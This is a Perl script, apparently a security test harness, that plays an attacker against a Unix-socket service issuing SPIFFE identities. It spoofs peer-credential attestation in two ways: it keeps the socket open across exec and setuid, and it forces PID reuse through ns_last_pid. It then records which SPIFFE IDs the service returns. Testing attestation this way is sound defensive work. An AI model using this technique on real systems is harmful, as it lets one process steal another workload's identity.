# An attacker of two processes: one that connects, and one that holds the same connection and stays when the first has
# died, has become another program, or was followed by another under its pid. It takes orders, a line each, and answers
# each with a line.
#
#   connect UID GID who    a new connection, made by a new process of that user; who speaks on it: first, accomplice, nobody
#   speak                  the accomplice says the request
#   first LINE             the first process obeys: speak; exec PROGRAM ARGUMENT...; setuid UID
#   reuse UID GID [PROGRAM ARGUMENT]
#                          the first dies, and another process gets its pid; answers which it got
#   listen MS              until the connection is closed; answers closed or open, and the SPIFFE IDs that were sent
#   hear MS                the same, but the first ID is enough
#   leave                  the accomplice lets go of the connection
#   end                    all of them go
use strict;
use warnings;
use Fcntl qw(F_SETFD FD_CLOEXEC);
use IO::Select;
use Socket;
use POSIX ();
use Time::HiRes qw(time);

$| = 1;
$^F = 255;    # what is opened stays open across exec: that is the attack
my ($path, $file) = @ARGV;
open(my $in, '<:raw', $file) or die "$file: $!";
my $request = do { local $/; <$in> };
my ($socket, $first, $second, $control, $seen);

sub become {
    my ($uid, $gid) = @_;
    $) = "$gid $gid";
    POSIX::setgid($gid);
    POSIX::setuid($uid);
}

sub speak { syswrite $socket, $request }

sub obey {
    my ($order) = @_;
    while (my $line = <$order>) {
        my ($what, @words) = split ' ', $line;
        if ($what eq 'speak') { speak() }
        elsif ($what eq 'setuid') { POSIX::setuid($words[0]) }
        else { exec @words }
    }
    exit 0;
}

sub meet {
    my ($uid, $gid, $who) = @_;
    $seen = '';
    socket($socket, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!";
    pipe(my $order, $control) or die "pipe: $!";
    pipe(my $done, my $tell) or die "pipe: $!";
    $first = fork // die "fork: $!";
    if (!$first) {
        close $control;
        close $done;
        open(STDIN, '<', '/dev/null');
        become($uid, $gid);
        connect($socket, pack_sockaddr_un($path)) or die "connect: $!";
        speak() if $who eq 'first';
        close $tell;
        obey($order);
    }
    close $order;
    close $tell;
    <$done>;    # until it has connected
    speak() if $who eq 'accomplice';
    return $first;
}

sub reuse {
    my ($uid, $gid, @program) = @_;
    my $pid = $first;
    kill 'KILL', $pid;
    waitpid $pid, 0;
    undef $first;
    for (1 .. 5) {
        open(my $last, '>', '/proc/sys/kernel/ns_last_pid') or die "ns_last_pid: $!";
        syswrite $last, $pid - 1;
        close $last;
        pipe(my $done, my $tell) or die "pipe: $!";
        $second = fork // die "fork: $!";
        if (!$second) {
            become($uid, $gid);
            fcntl($tell, F_SETFD, FD_CLOEXEC);
            exec @program if @program;
            close $tell;
            sleep 60;
            exit 0;
        }
        close $tell;
        <$done>;    # until it is who it is to be
        last if $second == $pid;
        kill 'KILL', $second;
        waitpid $second, 0;
    }
    return $second;
}

sub attend {
    my ($ms, $enough) = @_;
    my ($end, $state) = (time + $ms / 1000, 'open');
    my $select = IO::Select->new($socket);
    my %ids;
    while ($state eq 'open') {
        my $left = $end - time;
        last if $left <= 0 || !$select->can_read($left);
        my $got = sysread($socket, $seen, 65536, length $seen);
        $state = 'closed' if !$got;
        $ids{$1}++ while $seen =~ m{\x0a.(spiffe://[a-z0-9.-]+/[a-zA-Z0-9/_-]+)\x12}gs;
        last if $enough && %ids;
    }
    $seen = '';
    return join ' ', $state, sort keys %ids;
}

sub done {
    for my $pid (grep { $_ } $first, $second) { kill 'KILL', $pid; waitpid $pid, 0 }
    ($first, $second) = ();
    close $_ for grep { $_ } $socket, $control;
    return 'ok';
}

$SIG{PIPE} = 'IGNORE';
while (my $line = <STDIN>) {
    my ($order, @words) = split ' ', $line;
    print {*STDOUT} (
          $order eq 'connect' ? meet(@words)
        : $order eq 'reuse'   ? reuse(@words)
        : $order eq 'listen'  ? attend($words[0], 0)
        : $order eq 'hear'    ? attend($words[0], 1)
        : $order eq 'leave'   ? (close($socket) ? 'ok' : "$!")
        : $order eq 'speak'   ? (speak() ? 'ok' : "$!")
        : $order eq 'first'   ? (syswrite($control, "@words\n") ? 'ok' : "$!")
        :                       done()
    ), "\n";
}
done();
